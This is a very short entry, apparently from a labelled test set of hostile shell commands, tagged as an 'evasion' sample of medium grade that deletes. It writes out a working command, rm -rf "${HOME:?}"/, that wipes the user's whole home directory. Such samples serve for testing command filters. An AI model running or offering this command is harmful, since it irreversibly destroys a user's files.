# evasion: rm -rf of ${HOME:?}
# grade: medium; does: delete
rm -rf "${HOME:?}"/
